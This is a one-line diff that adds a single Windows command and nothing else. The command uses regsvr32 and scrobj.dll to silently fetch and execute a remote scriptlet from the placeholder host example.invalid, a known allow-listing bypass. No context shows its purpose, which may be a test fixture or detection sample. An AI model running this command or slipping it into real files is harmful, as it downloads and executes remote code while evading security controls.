@@ -1,0 +1,1 @@
+regsvr32 /s /n /u /i:http://example.invalid/a.sct scrobj.dll
